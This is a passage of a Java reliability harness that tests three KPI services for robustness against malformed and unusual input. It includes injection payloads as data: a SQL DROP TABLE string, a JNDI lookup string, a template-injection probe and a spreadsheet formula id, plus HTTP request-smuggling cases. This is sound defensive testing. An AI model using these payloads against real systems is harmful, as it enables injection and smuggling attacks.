package aikpi.e2e.reliability;

import static aikpi.e2e.reliability.BadInputCorpus.B;
import static aikpi.e2e.reliability.BadInputCorpus.Q;
import static aikpi.e2e.reliability.BadInputCorpus.SCRIPT;
import static aikpi.e2e.reliability.BadInputCorpus.SQL;
import static aikpi.e2e.reliability.BadInputCorpus.T;
import static aikpi.e2e.reliability.BadInputCorpus.enc;
import static aikpi.e2e.reliability.BadInputCorpus.oversized;
import static aikpi.e2e.reliability.BadInputCorpus.str;
import static aikpi.e2e.reliability.BillingBadInputs.line;
import static aikpi.e2e.reliability.QuarkBadInputs.DAY;

import aikpi.e2e.reliability.BadInputCorpus.Case;
import aikpi.e2e.reliability.Services.Answer;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.google.protobuf.InvalidProtocolBufferException;
import com.google.protobuf.util.JsonFormat;
import com.google.rpc.Code;
import com.google.rpc.Status;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;

/**
 * Bad-input harness (not a test): a corpus of malformed requests for every write endpoint of tongyi-service,
 * quark-service and cloud-billing-service — broken JSON, wrong types, missing fields, huge and negative numbers,
 * unknown ids, future and absurd dates, batches over the item limit and bodies over the size limit, duplicate ids
 * inside one batch where the service's rule refuses them, non-UTF-8 bytes, SQL and script fragments where an id must
 * be a slug — each sent with a valid item beside the bad one, so that a batch that is not atomic shows (the corpus is
 * a data table, one row a case, in {@link BadInputCorpus} and the tables it names). Every one
 * must be answered 4xx with {@code application/problem+json} — on OTLP's {@code /v1/traces}, with OTLP's own
 * {@code google.rpc.Status} in the request's encoding instead — (zero 5xx), and afterwards the stored data must be
 * exactly what it was (the services' lists, summaries, KPIs and metrics of the seeded quarter, and their
 * {@code kpi_ingest_items_total} accepted/duplicate counters).
 *
 * <p>Then the cases that are valid and must be stored as sent, checked by reading them back: SQL and script
 * fragments in free-text fields (names, display names, the revenue source) and in client-chosen ids (event, line,
 * session, entry, voucher ids, user ids, benchmark names); ids repeated inside one batch where the service's rule is
 * "counted once" (usage events, installs, app opens, AI sessions, ledger lines, GPU entries); and the largest numbers
 * the rules allow, summed (the summaries must still answer). The seeded quarter must be unchanged after those too.
 *
 * <p>{@code mvn -B -q -o -pl e2e-tests test-compile exec:java -Dexec.mainClass=aikpi.e2e.reliability.BadInputHarness}.
 * It always runs the whole corpus (well under a minute); {@code -Dreliability.short=true} is accepted for symmetry.
 * Exits 1 when a promise is broken.
 */
public final class BadInputHarness {

    private static final String QUARTER = "2024-Q3";
    /** A valid case's voucher id that a spreadsheet would run as a formula. */
    private static final String FORMULA_VOUCHER = "=1+2";

    /** A case's answer. */
    private record Result(Case c, Answer a, String verdict) {
        boolean ok() {
            return verdict == null;
        }
    }

    private final Services s;

    private BadInputHarness(Services s) {
        this.s = s;
    }

    public static void main(String[] args) throws Exception {
        boolean pass;
        try (Services s = new Services("badinput", Map.of())) {
            System.out.println("BadInputHarness " + Stats.now() + "; work directory " + s.work());
            s.start(T, Q, B, Services.GATEWAY);
            pass = run(s, Services.shortForm(args));
        }
        System.exit(pass ? 0 : 1);
    }

    static boolean run(Services s, boolean shortForm) throws Exception {
        return new BadInputHarness(s).go();
    }

    private boolean go() throws Exception {
        seed();
        Map<String, String> before = snapshot();
        Map<String, Long> countersBefore = counters();

        List<Case> cases = BadInputCorpus.all(revokedKey());
        List<Result> results = new ArrayList<>();
        int storedAnyway = 0;
        for (Case c : cases) {
            String stream = counterStream(c);
            long acceptedBefore = stream == null ? 0 : s.ingestCounter(c.module(), stream, "accepted");
            Answer a = s.send(c.method(), c.module(), c.path(), c.body(), c.contentType(), true, Duration.ofSeconds(120),
                    c.expectContinue(), c.headers());
            String verdict = judge(c, a);
            // A refused request must have stored nothing: its stream's counter, or the resource it named.
            if (a.status() >= 400 && a.status() < 500 && stream != null) {
                long stored = s.ingestCounter(c.module(), stream, "accepted") - acceptedBefore;
                if (stored != 0) {
                    verdict = (verdict == null ? "" : verdict + "; ") + "refused, yet " + stored + " items were stored";
                    storedAnyway++;
                }
            } else if (a.status() >= 400 && a.status() < 500 && c.method().equals("PUT") && c.readBack() != null) {
                Answer g = s.get(c.module(), c.readBack());
                if (g.status() != 404) {
                    verdict = (verdict == null ? "" : verdict + "; ") + "refused, yet GET " + c.readBack() + " answers " + g.status();
                    storedAnyway++;
                }
            }
            results.add(new Result(c, a, verdict));
        }
        List<List<String>> framing = new ArrayList<>();
        boolean framingHeld = framing(framing);
        // Without "Expect: 100-continue" a client streams a body over the limit regardless; reported, not judged.
        List<String> noContinue = new ArrayList<>();
        for (String[] e : new String[][] {{T, "/api/v1/usage/events"}, {Q, "/api/v1/activity/events"}, {B, "/api/v1/ledger/lines"}}) {
            Answer a = s.send("POST", e[0], e[1], oversized(), "application/json", true, Duration.ofSeconds(120), false);
            noContinue.add(e[0] + e[1] + ": " + (a.failure() != null ? "no answer (" + a.failure().getClass().getSimpleName()
                    + ": " + a.failure().getMessage() + ")" : a.status() + " " + a.contentType()));
        }
        Map<String, String> after = snapshot();
        Map<String, Long> countersAfter = counters();
        StringBuilder report = new StringBuilder("module\tmethod\tendpoint\tcase\tstatus\tcontent type\tverdict\tdetail\n");
        for (Result r : results) {
            Status status = isOtlp(r.c()) ? otlpStatus(r.a()) : null;
            String detail = status != null ? status.getMessage()
                    : r.a().isProblem() && r.a().body() != null ? r.a().json().path("detail").asText() : "";
            report.append(r.c().module()).append('\t').append(r.c().method()).append('\t').append(r.c().endpoint()).append('\t')
                    .append(r.c().name()).append('\t').append(r.a().status()).append('\t').append(r.a().contentType()).append('\t')
                    .append(r.ok() ? "OK" : r.verdict()).append('\t').append(Services.abbreviate(detail, 300)).append('\n');
        }
        java.nio.file.Path tsv = s.work().resolve("bad-input-cases.tsv");
        java.nio.file.Files.writeString(tsv, report.toString());

        boolean pass = true;
        // Per endpoint: how the corpus was answered.
        Map<String, int[]> byEndpoint = new TreeMap<>();
        for (Result r : results) {
            int[] k = byEndpoint.computeIfAbsent(r.c().module() + " " + r.c().method() + " " + r.c().endpoint(), x -> new int[7]);
            k[0]++;
            int st = r.a().status();
            if (st >= 400 && st < 500 && (isOtlp(r.c()) ? otlpStatus(r.a()) != null : r.a().isProblem())) {
                k[1]++;
            } else if (st >= 400 && st < 500) {
                k[2]++;
            } else if (st >= 200 && st < 300) {
                k[3]++;
            } else if (st >= 500) {
                k[4]++;
            } else {
                k[5]++;
            }
            if (!r.ok()) {
                k[6]++;
            }
        }
        List<List<String>> rows = new ArrayList<>();
        int total5xx = 0;
        int failed = 0;
        for (Map.Entry<String, int[]> e : byEndpoint.entrySet()) {
            int[] k = e.getValue();
            total5xx += k[4];
            failed += k[6];
            rows.add(List.of(e.getKey(), String.valueOf(k[0]), String.valueOf(k[1]), String.valueOf(k[2]),
                    String.valueOf(k[3]), String.valueOf(k[4]), String.valueOf(k[5]), k[6] == 0 ? "OK" : "FAIL " + k[6]));
        }
        pass &= failed == 0;
        System.out.printf("%nMalformed requests: %d cases on %d endpoints%n", results.size(), byEndpoint.size());
        System.out.print(Stats.table(List.of("endpoint", "cases", "4xx problem+json (OTLP: Status)", "4xx other", "2xx (accepted!)", "5xx",
                "no answer", "result"), rows));
        Map<Integer, Integer> statuses = new TreeMap<>();
        results.forEach(r -> statuses.merge(r.a().status(), 1, Integer::sum));
        System.out.println("statuses: " + statuses + "; 5xx: " + total5xx + "; refused requests that stored something anyway: "
                + storedAnyway + "; every case and its answer: " + tsv);
        for (Result r : results) {
            if (!r.ok()) {
                System.out.println("  FAILED " + r.c().module() + " " + r.c().method() + " " + r.c().path() + " — "
                        + r.c().name() + ": " + r.verdict() + "\n         request " + Services.abbreviate(
                        r.c().body() == null ? "" : new String(r.c().body(), StandardCharsets.UTF_8), 300)
                        + "\n         answer  " + r.a().summary() + readBack(r));
            }
        }
        System.out.println("bodies over the size limit sent without Expect: 100-continue (reported only):");
        noContinue.forEach(x -> System.out.println("  " + x));

        System.out.println("\nHTTP framing (RFC 9112 sections 5.2, 6.1, 6.3) over a raw socket: 400 problem+json and the "
                + "connection closed; a well-formed chunked write read as usual");
        System.out.print(Stats.table(List.of("service", "case", "answer", "result"), framing));
        pass &= framingHeld;

        boolean unchanged = compare("after the malformed corpus", before, after);
        boolean countersSame = compareCounters(countersBefore, countersAfter);
        pass &= unchanged && countersSame;

        // The valid cases: stored verbatim, counted once, summed without breaking.
        List<List<String>> valid = new ArrayList<>();
        pass &= validCases(valid);
        System.out.println("\nValid inputs that must be stored as sent (read back) or counted once");
        System.out.print(Stats.table(List.of("service", "case", "expected", "got", "result"), valid));
        Map<String, String> afterValid = snapshot();
        pass &= compare("after the valid cases, compared with after the corpus (their own ids and periods are outside "
                + "the seeded quarter)", after, afterValid);

        System.out.println((pass ? "PASS" : "FAIL") + " BadInputHarness: every malformed request answered 4xx problem+json "
                + "(a google.rpc.Status in the request's encoding on OTLP's /v1/traces), no 5xx, stored data unchanged; valid odd inputs stored verbatim and counted once");
        return pass;
    }

    private String readBack(Result r) {
        if (r.c().readBack() == null || !r.a().ok()) {
            return "";
        }
        Answer g = s.get(r.c().module(), r.c().readBack());
        return "\n         stored  " + g.summary();
    }

    /** A write path of each service: the framing cases are sent to it (they are refused before any routing). */
    private static final Map<String, String> FRAMING_PATHS = new TreeMap<>(Map.of(T, "/api/v1/usage/events",
            Q, "/api/v1/activity/events", B, "/api/v1/ledger/lines", Services.GATEWAY, "/api/v1/targets/FY2025/group/x"));

    /**
     * Each service, over a raw socket: every framing case gets 400 problem+json and a closed connection with nothing
     * after it read as a request; a well-formed chunked read (a GET of a list, with a chunked empty body) is answered
     * and the connection stays open.
     */
    private boolean framing(List<List<String>> rows) {
        boolean pass = true;
        for (Map.Entry<String, String> e : FRAMING_PATHS.entrySet()) {
            String module = e.getKey();
            if (!s.isRunning(module)) {
                continue;
            }
            int port = Integer.parseInt(s.url(module).substring(s.url(module).lastIndexOf(':') + 1));
            for (aikpi.testing.RawHttp.FramingCase c : aikpi.testing.RawHttp.malformedFraming(e.getValue())) {
                // A smuggled second request follows each one; it must never be answered.
                byte[] request = (new String(c.bytes("127.0.0.1:" + port), StandardCharsets.ISO_8859_1)
                        + "GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1);
                aikpi.testing.RawHttp.Answer a = aikpi.testing.RawHttp.exchange("127.0.0.1", port, request, 3_000);
                boolean ok = a.status() == 400 && a.contentType().equals("application/problem+json") && a.closed()
                        && a.responses() == 1;
                pass &= ok;
                rows.add(List.of(module, c.name(), a.status() + " " + a.contentType() + (a.closed() ? ", closed" : ", left open")
                        + (a.responses() > 1 ? ", " + a.responses() + " answers" : ""), ok ? "OK" : "FAIL"));
            }
            byte[] chunked = aikpi.testing.RawHttp.chunked("GET", "/health", "127.0.0.1:" + port, null, "{}");
            aikpi.testing.RawHttp.Answer a = aikpi.testing.RawHttp.exchange("127.0.0.1", port, chunked, 1_500);
            boolean ok = a.status() == 200 && !a.closed();
            pass &= ok;
            rows.add(List.of(module, "well-formed chunked request", a.status() + (a.closed() ? ", closed" : ", kept open"),
                    ok ? "OK" : "FAIL"));
        }
        return pass;
    }

    /** The ingestion counter that shows whether a request to this endpoint stored items (null: none). */
    private static String counterStream(Case c) {
        if (!c.method().equals("POST")) {
            return null;
        }
        return switch (c.endpoint()) {
            case "/api/v1/usage/events", "/api/v1/usage/cloudevents", "/api/v1/usage/cloudevents (binary mode)",
                    "/api/v1/events", "/api/v1/events (binary mode)" -> "usage-events";
            case "/v1/traces" -> "otlp-spans";
            case "/api/v1/models/{id}/hub-stats" -> "hub-stats";
            case "/api/v1/resources/usage" -> "resource-usage";
            case "/api/v1/installs" -> "installs";
            case "/api/v1/activity/events" -> "activity-events";
            case "/api/v1/ai-sessions" -> "ai-sessions";
            case "/api/v1/segment/batch", "/api/v1/segment/track" -> "segment";
            case "/api/v1/ledger/lines" -> "ledger-lines";
            default -> null;
        };
    }

    private static String judge(Case c, Answer a) {
        if (a.failure() != null) {
            return "no answer";
        }
        if (a.status() >= 500) {
            return "server error " + a.status();
        }
        if (a.status() < 400) {
            return "accepted (" + a.status() + "), expected a 4xx";
        }
        if (!c.allowed().isEmpty() && !c.allowed().contains(a.status())) {
            return "status " + a.status() + ", expected " + c.allowed();
        }
        if (isOtlp(c)) {
            return judgeStatus(c, a);
        }
        if (!a.isProblem()) {
            return "content type " + a.contentType() + ", expected application/problem+json";
        }
        try {
            JsonNode p = a.json();
            if (p.path("status").asInt() != a.status() || p.path("title").asText().isEmpty()) {
                return "problem document without a matching status and a title: " + Services.abbreviate(a.body(), 200);
            }
        } catch (RuntimeException e) {
            return "problem document is not JSON";
        }
        return null;
    }

    /** OTLP/HTTP's path: it refuses with OTLP's own error body, not problem+json. */
    private static boolean isOtlp(Case c) {
        return c.path().equals("/v1/traces");
    }

    /**
     * An OTLP refusal: a {@code google.rpc.Status} in the request's encoding (JSON when it sent JSON, binary protobuf
     * otherwise, the protocol's default), with the gRPC code of the HTTP status and a message.
     */
    private static String judgeStatus(Case c, Answer a) {
        String expected = BadInputCorpus.JSON_TYPE.equals(c.contentType()) ? "application/json" : TongyiBadInputs.PROTOBUF_TYPE;
        if (a.contentType() == null || !a.contentType().toLowerCase(Locale.ROOT).startsWith(expected)) {
            return "content type " + a.contentType() + ", expected " + expected + " (a google.rpc.Status in the request's encoding)";
        }
        Status status = otlpStatus(a);
        if (status == null) {
            return "not a google.rpc.Status: " + Services.abbreviate(a.body(), 200);
        }
        Code code = switch (a.status()) {
            case 401 -> Code.UNAUTHENTICATED;
            case 403 -> Code.PERMISSION_DENIED;
            case 429 -> Code.RESOURCE_EXHAUSTED;
            default -> Code.INVALID_ARGUMENT;
        };
        if (status.getCode() != code.getNumber() || status.getMessage().isBlank()) {
            return "google.rpc.Status with code " + status.getCode() + " and message '" + status.getMessage() + "', expected "
                    + code + " (" + code.getNumber() + ") and a message";
        }
        return null;
    }

    /** The answer's google.rpc.Status, read in the encoding its Content-Type names; null when it is none. */
    private static Status otlpStatus(Answer a) {
        String type = a.contentType() == null ? "" : a.contentType().toLowerCase(Locale.ROOT);
        try {
            if (type.startsWith(TongyiBadInputs.PROTOBUF_TYPE) && a.bytes() != null) {
                return Status.parseFrom(a.bytes());
            }
            if (type.startsWith("application/json") && a.body() != null) {
                Status.Builder status = Status.newBuilder();
                JsonFormat.parser().merge(a.body(), status);
                return status.build();
            }
        } catch (InvalidProtocolBufferException e) {
            return null;
        }
        return null;
    }

    /** An ingest key of tongyi's usage stream, created and revoked: the corpus sends it to /v1/traces. */
    private String revokedKey() {
        JsonNode key = s.write("POST", T, "/api/v1/ingest-keys", "{\"name\":\"rb revoked\",\"streams\":[\"usage\"]}");
        Answer revoked = s.send("DELETE", T, "/api/v1/ingest-keys/" + key.path("id").asText(), null, null, true);
        if (revoked.status() != 204) {
            throw new IllegalStateException("revoking an ingest key: " + revoked.summary());
        }
        return key.path("key").asText();
    }

    // ------------------------------------------------------------------------------------------------ seed

    private void seed() {
        s.write("PUT", T, "/api/v1/models/rb-model", "{\"family\":\"rb\",\"vendor\":\"Alibaba\",\"displayName\":\"RB model\","
                + "\"parametersBillions\":7,\"openSource\":true,\"license\":\"Apache-2.0\",\"releaseDate\":\"2024-07-01\"}");
        s.write("PUT", T, "/api/v1/customers/rb-cust", "{\"name\":\"RB customer\",\"kind\":\"EXTERNAL\",\"onboardedOn\":\"2024-07-01\"}");
        s.write("PUT", T, "/api/v1/customers/rb-unit", "{\"name\":\"RB unit\",\"kind\":\"INTERNAL\",\"businessUnit\":\"taobao\","
                + "\"onboardedOn\":\"2024-07-02\"}");
        StringBuilder usage = new StringBuilder("[");
        for (int i = 0; i < 20; i++) {
            usage.append(i > 0 ? "," : "").append("{\"eventId\":\"rb-u-").append(i).append("\",\"customerId\":\"")
                    .append(i % 2 == 0 ? "rb-cust" : "rb-unit").append("\",\"modelId\":\"rb-model\",\"occurredAt\":\"2024-08-")
                    .append(String.format("%02d", 1 + i)).append("T04:00:00Z\",\"inputTokens\":").append(100 + i)
                    .append(",\"outputTokens\":").append(10 + i).append("}");
        }
        s.write("POST", T, "/api/v1/usage/events", usage.append("]").toString());
        s.write("POST", T, "/api/v1/models/rb-model/hub-stats", "[{\"date\":\"2024-08-01\",\"platform\":\"MODELSCOPE\","
                + "\"downloads\":1000,\"likes\":10,\"derivatives\":{\"finetune\":3,\"quantized\":2,\"adapter\":1,\"merge\":0}},"
                + "{\"date\":\"2024-09-01\",\"platform\":\"MODELSCOPE\",\"downloads\":1500,\"likes\":15,\"derivatives\":{\"finetune\":5}}]");
        s.write("POST", T, "/api/v1/benchmarks", "[{\"modelId\":\"rb-model\",\"benchmark\":\"rb-bench\",\"score\":80.5,"
                + "\"evaluatedOn\":\"2024-08-01\"}]");
        s.write("POST", T, "/api/v1/resources/usage", "[{\"entryId\":\"rb-r-1\",\"date\":\"2024-08-01\",\"purpose\":\"TRAINING\","
                + "\"modelId\":\"rb-model\",\"gpuHours\":100.5,\"costCny\":1234.56},{\"entryId\":\"rb-r-2\",\"date\":\"2024-08-02\","
                + "\"purpose\":\"INFERENCE\",\"gpuHours\":10,\"costCny\":99.99}]");

        s.write("PUT", Q, "/api/v1/apps/rb-app", "{\"name\":\"RB app\",\"businessUnit\":\"quark\",\"launchedOn\":\"2024-07-01\"}");
        s.write("PUT", Q, "/api/v1/apps/rb-app/features/rb-feat", "{\"name\":\"RB assistant\",\"kind\":\"ASSISTANT\","
                + "\"launchedOn\":\"2024-07-01\"}");
        StringBuilder installs = new StringBuilder("[");
        StringBuilder opens = new StringBuilder("[");
        StringBuilder sessions = new StringBuilder("[");
        for (int i = 0; i < 20; i++) {
            String at = "2024-08-" + String.format("%02d", 1 + i) + "T04:00:00Z";
            if (i < 10) {
                installs.append(i > 0 ? "," : "").append("{\"eventId\":\"rb-i-").append(i).append("\",\"appId\":\"rb-app\","
                        + "\"userId\":\"rb-user-").append(i).append("\",\"occurredAt\":\"").append(at).append("\"}");
            }
            opens.append(i > 0 ? "," : "").append("{\"eventId\":\"rb-o-").append(i).append("\",\"appId\":\"rb-app\","
                    + "\"userId\":\"rb-user-").append(i % 15).append("\",\"occurredAt\":\"").append(at).append("\"}");
            sessions.append(i > 0 ? "," : "").append("{\"sessionId\":\"rb-s-").append(i).append("\",\"appId\":\"rb-app\","
                    + "\"featureId\":\"rb-feat\",\"userId\":\"rb-user-").append(i % 7).append("\",\"startedAt\":\"").append(at)
                    .append("\",\"turns\":").append(1 + i % 5).append(",\"agentCalls\":").append(i % 3)
                    .append(",\"outcome\":\"").append(i % 3 == 0 ? "RESOLVED" : "ABANDONED").append("\",\"rating\":")
                    .append(i % 4 == 0 ? "null" : String.valueOf(1 + i % 5)).append(",\"converted\":").append(i % 5 == 0)
                    .append(",\"conversionValueCny\":").append(i % 5 == 0 ? "12.34" : "null").append("}");
        }
        s.write("POST", Q, "/api/v1/installs", installs.append("]").toString());
        s.write("POST", Q, "/api/v1/activity/events", opens.append("]").toString());
        s.write("POST", Q, "/api/v1/ai-sessions", sessions.append("]").toString());
        s.write("PUT", Q, "/api/v1/apps/rb-agg", "{\"name\":\"RB daily aggregates\",\"businessUnit\":\"taobao\","
                + "\"launchedOn\":\"2024-07-01\",\"feed\":\"AGGREGATES\"}");
        s.write("PUT", Q, "/api/v1/apps/rb-agg/days/2024-08-10", DAY);

        s.write("PUT", B, "/api/v1/group-revenue/" + QUARTER, "{\"groupRevenueCny\":236503000000.00,"
                + "\"cloudRevenueCny\":29610000000.00,\"source\":\"reliability harness (synthetic)\"}");
        s.write("PUT", B, "/api/v1/vouchers/rb-v1", "{\"customerId\":\"rb-inv\",\"customerKind\":\"INVESTEE\",\"amountCny\":1000.00,"
                + "\"issuedOn\":\"2024-07-01\",\"expiresOn\":\"2024-12-31\"}");
        s.write("PUT", B, "/api/v1/vouchers/rb-v2", "{\"customerId\":\"rb-other\",\"customerKind\":\"PARTNER\",\"amountCny\":500.00,"
                + "\"issuedOn\":\"2024-07-01\",\"expiresOn\":\"2024-12-31\"}");
        s.write("POST", B, "/api/v1/ledger/lines", "["
                + line("rb-l1", "rb-cust", "EXTERNAL", null, "2024-08-01", "IAAS", "1000.00", "CASH", null, null, null) + ","
                + line("rb-l2", "rb-cust", "EXTERNAL", null, "2024-08-02", "MAAS_TOKENS", "250.00", "CASH", null, 1_000_000L, null) + ","
                + line("rb-l3", "rb-inv", "INVESTEE", null, "2024-08-03", "AI_COMPUTE", "100.00", "VOUCHER", "rb-v1", null, null) + ","
                + line("rb-l4", "rb-unit", "INTERNAL", "taobao", "2024-08-04", "AI_APPS", "75.50", "CASH", null, null, null) + ","
                + line("rb-l5", "rb-cust", "EXTERNAL", null, "2024-08-05", "MAAS_TOKENS", "-50.00", "CASH", null, -200_000L, "rb-l2")
                + "]");
        // A final billing month imported once (a second run finds it unchanged): restating it is a bad-input row (409).
        Answer closed = s.send("POST", B, "/api/v1/ledger/imports",
                BillingBadInputs.CLOSED_MONTH_FILE.getBytes(StandardCharsets.UTF_8), "text/csv", true);
        if (!closed.ok()) {
            throw new IllegalStateException("POST " + B + "/api/v1/ledger/imports: " + closed.summary());
        }
    }

    // ------------------------------------------------------------------------------------------------ snapshot

    private static final List<String[]> SNAPSHOT = List.of(
            new String[] {T, "/api/v1/models"}, new String[] {T, "/api/v1/customers"},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER + "&groupBy=customer"},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER + "&groupBy=model"},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER + "&groupBy=day"},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER + "&groupBy=businessUnit"},
            new String[] {T, "/api/v1/kpis?period=" + QUARTER},
            new String[] {T, "/api/v1/models/rb-model/hub-stats?period=" + QUARTER},
            new String[] {T, "/api/v1/benchmarks?benchmark=rb-bench"},
            new String[] {Q, "/api/v1/apps"}, new String[] {Q, "/api/v1/apps/rb-app/features"},
            new String[] {Q, "/api/v1/apps/rb-app/metrics?period=" + QUARTER},
            new String[] {Q, "/api/v1/kpis?period=" + QUARTER},
            new String[] {Q, "/api/v1/apps/rb-agg/metrics?period=" + QUARTER},
            new String[] {Q, "/api/v1/apps/rb-agg/days/2024-08-10"},
            new String[] {B, "/api/v1/group-revenue"}, new String[] {B, "/api/v1/vouchers"},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER + "&groupBy=product"},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER + "&groupBy=funding"},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER + "&groupBy=customer"},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER + "&groupBy=businessUnit"},
            new String[] {B, "/api/v1/ledger/lines/rb-l2"},
            new String[] {B, "/api/v1/ledger/imports"},
            new String[] {B, "/api/v1/attribution?period=" + QUARTER});

    /** What the services hold, as they answer it; the valid cases' own entries (vouchers, a quarter) are left out. */
    private Map<String, String> snapshot() {
        Map<String, String> snap = new LinkedHashMap<>();
        for (String[] r : SNAPSHOT) {
            JsonNode n = s.read(r[0], r[1]);
            if (n.isArray() && !r[1].startsWith("/api/v1/benchmarks")) {
                ArrayNode kept = Services.JSON.createArrayNode();
                for (JsonNode e : n) {
                    String id = e.path(e.has("voucherId") ? "voucherId" : e.has("quarter") ? "quarter" : e.has("modelId")
                            ? "modelId" : e.has("customerId") ? "customerId" : "appId").asText();
                    if (!id.startsWith("rb-ok-") && !id.equals("2019-Q1") && !id.equals(FORMULA_VOUCHER)) {
                        kept.add(e);
                    }
                }
                n = kept;
            }
            snap.put(r[0] + r[1], n.toString());
        }
        return snap;
    }

    private static boolean compare(String when, Map<String, String> before, Map<String, String> after) {
        List<String> changed = new ArrayList<>();
        for (String k : before.keySet()) {
            if (!Objects.equals(before.get(k), after.get(k))) {
                changed.add(k);
            }
        }
        System.out.printf("%nStored data %s: %d reads compared, %s%n", when, before.size(),
                changed.isEmpty() ? "all identical" : changed.size() + " CHANGED");
        for (String k : changed) {
            System.out.println("  CHANGED " + k + "\n    before " + Services.abbreviate(before.get(k), 600)
                    + "\n    after  " + Services.abbreviate(after.get(k), 600));
        }
        return changed.isEmpty();
    }

    private Map<String, Long> counters() {
        Map<String, Long> all = new TreeMap<>();
        for (String[] st : new String[][] {{T, "usage-events"}, {T, "otlp-spans"}, {T, "hub-stats"}, {T, "resource-usage"}, {Q, "installs"},
                {Q, "activity-events"}, {Q, "ai-sessions"}, {Q, "segment"}, {B, "ledger-lines"}}) {
            for (String outcome : List.of("accepted", "duplicate")) {
                all.put(st[0] + " " + st[1] + " " + outcome, s.ingestCounter(st[0], st[1], outcome));
            }
        }
        return all;
    }

    private static boolean compareCounters(Map<String, Long> before, Map<String, Long> after) {
        List<String> changed = new ArrayList<>();
        before.forEach((k, v) -> {
            if (!Objects.equals(v, after.get(k))) {
                changed.add(k + " " + v + " -> " + after.get(k));
            }
        });
        System.out.println("kpi_ingest_items_total accepted/duplicate counters: " + (changed.isEmpty()
                ? "unchanged (" + before.size() + " counters)" : "CHANGED " + changed));
        return changed.isEmpty();
    }

    // ------------------------------------------------------------------------------------------------ valid cases

    private boolean validCases(List<List<String>> rows) {
        boolean pass = true;
        // Free text: replaced with SQL and script, read back verbatim, then the original put back.
        String[] texts = {SQL, SCRIPT, "Robert'); DROP TABLE customer;--", "tab\tand line\nbreaks, \u202Ebidi\u202C, \u00a0, 汉字 🚀 (a surrogate pair)",
            "%s %n ${jndi:ldap://x} {{7*7}}"};
        for (String text : texts) {
            pass &= verbatim(rows, T, "/api/v1/models/rb-model", "displayName", text,
                    "{\"family\":\"rb\",\"vendor\":\"Alibaba\",\"displayName\":" + str(text) + ",\"parametersBillions\":7,"
                            + "\"openSource\":true,\"license\":" + str(Services.abbreviate(text, 90)) + ",\"releaseDate\":\"2024-07-01\"}");
            pass &= verbatim(rows, T, "/api/v1/customers/rb-cust", "name", text,
                    "{\"name\":" + str(text) + ",\"kind\":\"EXTERNAL\",\"onboardedOn\":\"2024-07-01\"}");
            pass &= verbatim(rows, Q, "/api/v1/apps/rb-app", "name", text,
                    "{\"name\":" + str(text) + ",\"businessUnit\":\"quark\",\"launchedOn\":\"2024-07-01\"}");
            pass &= verbatim(rows, Q, "/api/v1/apps/rb-app/features/rb-feat", "name", text,
                    "{\"name\":" + str(text) + ",\"kind\":\"ASSISTANT\",\"launchedOn\":\"2024-07-01\"}");
            JsonNode r = s.write("PUT", B, "/api/v1/group-revenue/2019-Q1", "{\"groupRevenueCny\":1000.00,\"cloudRevenueCny\":100.00,"
                    + "\"source\":" + str(text) + "}");
            // decided: the revenue source is stored trimmed (String.trim: leading/trailing blanks and control characters)
            String back = s.read(B, "/api/v1/group-revenue/2019-Q1").path("source").asText();
            pass &= row(rows, B, "group revenue source = " + Services.abbreviate(text, 30) + " (trimmed)", text.trim(), back)
                    & row(rows, B, "  (the PUT's answer)", text.trim(), r.path("source").asText());
        }
        // put the originals back
        s.write("PUT", T, "/api/v1/models/rb-model", "{\"family\":\"rb\",\"vendor\":\"Alibaba\",\"displayName\":\"RB model\","
                + "\"parametersBillions\":7,\"openSource\":true,\"license\":\"Apache-2.0\",\"releaseDate\":\"2024-07-01\"}");
        s.write("PUT", T, "/api/v1/customers/rb-cust", "{\"name\":\"RB customer\",\"kind\":\"EXTERNAL\",\"onboardedOn\":\"2024-07-01\"}");
        s.write("PUT", Q, "/api/v1/apps/rb-app", "{\"name\":\"RB app\",\"businessUnit\":\"quark\",\"launchedOn\":\"2024-07-01\"}");
        s.write("PUT", Q, "/api/v1/apps/rb-app/features/rb-feat", "{\"name\":\"RB assistant\",\"kind\":\"ASSISTANT\",\"launchedOn\":\"2024-07-01\"}");

        // Client-chosen ids with SQL and script, and an id repeated inside the batch: stored once, verbatim (2024-11).
        String[] ids = {"rb-ok-" + SQL, "rb-ok-" + SCRIPT, "rb-ok-plain"};
        StringBuilder usage = new StringBuilder("[");
        StringBuilder opens = new StringBuilder("[");
        StringBuilder sessions = new StringBuilder("[");
        StringBuilder ledger = new StringBuilder("[");
        StringBuilder gpu = new StringBuilder("[");
        for (int i = 0; i <= ids.length; i++) {
            String id = ids[Math.min(i, ids.length - 1)]; // the last id twice
            String sep = i > 0 ? "," : "";
            usage.append(sep).append("{\"eventId\":").append(str(id)).append(",\"customerId\":\"rb-cust\",\"modelId\":\"rb-model\","
                    + "\"occurredAt\":\"2024-11-10T04:00:00Z\",\"inputTokens\":7,\"outputTokens\":3}");
            opens.append(sep).append("{\"eventId\":").append(str(id)).append(",\"appId\":\"rb-app\",\"userId\":").append(str(id))
                    .append(",\"occurredAt\":\"2024-11-10T04:00:00Z\"}");
            sessions.append(sep).append("{\"sessionId\":").append(str(id)).append(",\"appId\":\"rb-app\",\"featureId\":\"rb-feat\","
                    + "\"userId\":").append(str(id)).append(",\"startedAt\":\"2024-11-10T04:00:00Z\",\"turns\":2,\"agentCalls\":0,"
                    + "\"outcome\":\"RESOLVED\",\"rating\":5,\"converted\":false}");
            ledger.append(sep).append(line(id, "rb-cust", "EXTERNAL", null, "2024-11-10", "IAAS", "1.00", "CASH", null, null, null));
            gpu.append(sep).append("{\"entryId\":").append(str(id)).append(",\"date\":\"2024-11-10\",\"purpose\":\"TRAINING\","
                    + "\"gpuHours\":1.5,\"costCny\":2.00}");
        }
